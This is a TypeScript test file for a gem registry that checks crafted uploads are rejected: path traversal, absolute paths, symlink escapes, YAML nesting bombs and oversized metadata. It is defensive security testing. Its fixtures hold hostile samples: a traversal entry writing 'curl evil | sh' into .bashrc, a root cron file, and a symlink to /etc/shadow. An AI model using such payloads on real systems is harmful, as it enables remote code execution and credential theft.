/** Pushed gems whose data.tar.gz would unpack outside the gem are refused, and a push is all or nothing (security issue #11, findings 2 and 5). */
import { readdir } from 'node:fs/promises'
import { Readable } from 'node:stream'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createMemoryStore, spoolStream, type CacheStore, type Principal } from '@larder/core'
import { buildGem, replaceGemData, writeTar, writeTarGz, type BuiltGem, type TarEntryInput } from '@larder/testkit'
import { TEST_TOKEN, startGemsAppHarness, type GemsAppHarness } from './gems-app.harness.js'
import { PRIVATE_FILE_PREFIX, PRIVATE_GEM_PREFIX, PrivateGems } from './private/private-gems.js'

let real: BuiltGem
let h: GemsAppHarness

beforeAll(async () => {
  real = await buildGem({ name: 'app-crafted', version: '1.0.0' })
  h = await startGemsAppHarness([])
}, 180_000)

afterAll(async () => {
  await h?.close()
})

const push = (bytes: Buffer) =>
  h.request('/gems/api/v1/gems', {
    method: 'POST',
    body: new Uint8Array(bytes),
    headers: { 'content-type': 'application/octet-stream', authorization: TEST_TOKEN },
  })

async function expectNothingServed() {
  expect((await h.request('/gems/info/app-crafted')).status).toBe(404)
  expect((await h.request('/gems/gems/app-crafted-1.0.0.gem')).status).toBe(404)
  // The refused push's spool file is gone too.
  expect((await readdir(h.services.store.spoolDir)).filter((file) => file.startsWith('upload-'))).toEqual([])
}

describe('gem push of a crafted gem', () => {
  it.each<[string, TarEntryInput[], RegExp]>([
    [
      'a ../ path',
      [
        { name: 'lib/app.rb', data: '' },
        { name: '../../../../.bashrc', data: 'curl evil | sh' },
      ],
      /data\.tar\.gz holds an unsafe entry "..\/..\/..\/..\/.bashrc": it has a '..' segment/,
    ],
    ['an absolute path', [{ name: '/etc/cron.d/evil', data: '* * * * * root id' }], /absolute path/],
    ['a symlink out of the gem', [{ name: 'lib/app.rb', type: 'symlink', linkTarget: '../../../../../etc/shadow' }], /links outside the package/],
  ])('refuses data.tar.gz with %s (400) and serves nothing', async (_what, entries, message) => {
    const res = await push(replaceGemData(real.bytes, writeTarGz(entries)))
    expect(res.status).toBe(400)
    expect(((await res.json()) as { error: string }).error).toMatch(message)
    await expectNothingServed()
  })

  it('refuses an outer tar with a ../ member', async () => {
    const res = await push(writeTar([{ name: '../metadata.gz', data: 'x' }]))
    expect(res.status).toBe(400)
    expect(((await res.json()) as { error: string }).error).toMatch(/unsafe entry/)
  })

  it('refuses a gemspec nested deeper than the YAML limit with a 400 naming it', async () => {
    const yaml = `--- !ruby/object:Gem::Specification\nname: app-crafted\nmetadata:\n  deep: ${'['.repeat(200_000)}${']'.repeat(200_000)}\n`
    const res = await push(
      writeTar([
        { name: 'metadata.gz', data: gzipSync(yaml) },
        { name: 'data.tar.gz', data: writeTarGz([{ name: 'lib/a.rb', data: '' }]) },
      ]),
    )
    expect(res.status).toBe(400)
    expect(((await res.json()) as { error: string }).error).toMatch(/nests deeper than the limit of 64 levels/)
    await expectNothingServed()
  })

  it('refuses metadata.gz that unpacks past the size limit with a 413 naming it', async () => {
    const res = await push(
      writeTar([
        { name: 'metadata.gz', data: gzipSync(Buffer.alloc(5 * 1024 * 1024, 0x20)) },
        { name: 'data.tar.gz', data: writeTarGz([{ name: 'lib/a.rb', data: '' }]) },
      ]),
    )
    expect(res.status).toBe(413)
    expect(((await res.json()) as { error: string }).error).toMatch(/more than the limit of 4194304 bytes/)
  })

  it('still takes the real gem', async () => {
    expect((await push(real.bytes)).status).toBe(200)
  })
})

describe('PrivateGems.push', () => {
  let store: CacheStore
  afterAll(async () => {
    await store?.close()
  })

  it('serves no .gem when the /info write fails after the file was stored', async () => {
    store = createMemoryStore()
    const put = store.putEntry.bind(store)
    store.putEntry = async (entry) => {
      if (entry.key.startsWith(PRIVATE_GEM_PREFIX)) throw new Error('disk full')
      await put(entry)
    }
    const gems = new PrivateGems(store)
    const spooled = await spoolStream(Readable.from([real.bytes]), { spoolDir: store.spoolDir })
    await expect(gems.push(spooled, { name: 'tester' } as Principal)).rejects.toThrow('disk full')
    expect(await store.getEntry(`${PRIVATE_FILE_PREFIX}app-crafted-1.0.0.gem`)).toBeUndefined()
    expect(await gems.file('app-crafted-1.0.0.gem')).toBeUndefined()
  })
})
